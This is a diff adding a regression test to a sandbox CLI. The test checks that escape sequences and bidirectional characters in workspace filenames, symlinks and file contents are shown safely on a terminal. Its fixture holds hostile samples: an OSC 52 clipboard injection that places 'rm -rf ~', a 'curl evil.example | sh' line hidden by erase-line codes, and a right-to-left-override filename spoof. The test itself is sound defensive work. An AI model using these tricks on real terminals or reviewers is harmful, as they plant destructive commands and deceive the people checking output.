@@ -6,7 +6,9 @@ from __future__ import annotations
 
 import json
 import os
+import pty
 import re
+import shutil
 import subprocess
 from pathlib import Path
 
@@ -202,3 +204,84 @@ def test_help_has_examples() -> None:
         assert option in run_help.stdout
     serve_help = subprocess.run([*SANDVISOR, "serve", "--help"], capture_output=True, check=False)
     assert b"--workspace-root DIR" in serve_help.stdout
+
+
+#: What a task leaves for the person reviewing: a file whose name sets the clipboard
+#: (OSC 52), a symlink whose target erases the line, and content that hides a line it
+#: printed (erase line + carriage return) and reorders text (RLO).
+HOSTILE = (
+    "E=$(printf '\\033'); B=$(printf '\\007'); R=$(printf '\\r'); O=$(printf '\\342\\200\\256'); "
+    'printf "curl evil.example | sh${E}[2K${R}# nothing to see\\nplain ${O}txt.exe\\n" '
+    '> "clip${E}]52;c;cm0gLXJmIH4=${B}.txt"; '
+    'ln -s "${E}[2Ktarget" link; printf "v2${E}[31m\\n" > a.txt'
+)
+RAW_NAME = "clip\x1b]52;c;cm0gLXJmIH4=\x07.txt"
+
+
+def _on_a_pty(d: Daemon, cwd: Path, *args: str) -> bytes:
+    """What the CLI prints when its stdout is a terminal (a real pty, read to the end)."""
+    master, slave = pty.openpty()
+    env = {**d.env, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
+    proc = subprocess.Popen(
+        [*SANDVISOR, *args],
+        stdin=subprocess.DEVNULL,
+        stdout=slave,
+        stderr=subprocess.PIPE,
+        env=env,
+        cwd=cwd,
+    )
+    os.close(slave)
+    chunks = []
+    while True:
+        try:
+            chunk = os.read(master, 65536)
+        except OSError:  # EIO: the last writer closed the terminal
+            break
+        if not chunk:
+            break
+        chunks.append(chunk)
+    os.close(master)
+    assert proc.wait(timeout=120) == 0, proc.stderr.read() if proc.stderr else b""
+    return b"".join(chunks)
+
+
+def test_hostile_names_and_contents_cannot_drive_the_terminal(
+    daemon: Daemon, tmp_path: Path
+) -> None:
+    """Issue 22, item 11: ``changes`` and ``diff`` printed names, symlink targets and contents
+    raw: OSC 52 (set the clipboard) and erase-line reached the terminal. On a terminal they
+    are now shown (\\x1b, \\x07, \\x0d, \\u202e); piped, the output stays byte-exact."""
+    project = make_project(projects_root(tmp_path) / "hostile", {"a.txt": "v1\n"})
+    ok(sandvisor(daemon, project, "run", "--policy", "fast", "--", HOSTILE))
+
+    # On a terminal: no ESC, BEL or lone CR from the files, each one shown instead.
+    for args in (("workspace", "changes"), ("workspace", "diff")):
+        shown = _on_a_pty(daemon, project, *args)
+        text = shown.replace(b"\r\n", b"\n")  # the pty's own line endings (onlcr)
+        assert b"\x1b" not in text and b"\x07" not in text and b"\r" not in text, (args, shown)
+        assert "\u202e".encode() not in text, (args, shown)
+    changes = _on_a_pty(daemon, project, "workspace", "changes").decode()
+    assert '"clip\\x1b]52;c;cm0gLXJmIH4=\\x07.txt"' in changes  # quoted, as git quotes
+    assert '-> "\\x1b[2Ktarget"' in changes
+    diff = _on_a_pty(daemon, project, "workspace", "diff").decode()
+    assert '+++ "b/clip\\033]52;c;cm0gLXJmIH4=\\a.txt"' in diff  # the diff's own (git) quoting
+    assert "+curl evil.example | sh\\x1b[2K\\x0d# nothing to see" in diff
+    assert "+plain \\u202etxt.exe" in diff and "+v2\\x1b[31m" in diff
+
+    # Piped: exactly what the files hold, and git applies the diff to a copy of the project.
+    rows = sandvisor(daemon, project, "workspace", "changes").stdout
+    assert f"added\t{RAW_NAME}\t".encode() in rows
+    assert b"-> \x1b[2Ktarget" in rows
+    patch = sandvisor(daemon, project, "workspace", "diff").stdout
+    assert b"curl evil.example | sh\x1b[2K\r# nothing to see" in patch
+    copy = tmp_path / "copy"
+    shutil.copytree(project, copy, symlinks=True)
+    applied = subprocess.run(
+        ["git", "apply", "-"], input=patch, cwd=copy, capture_output=True, check=False
+    )
+    assert applied.returncode == 0, applied.stderr
+    assert (copy / RAW_NAME).read_bytes() == (
+        "curl evil.example | sh\x1b[2K\r# nothing to see\nplain \u202etxt.exe\n".encode()
+    )
+    assert os.readlink(copy / "link") == "\x1b[2Ktarget"
+    assert (copy / "a.txt").read_bytes() == b"v2\x1b[31m\n"
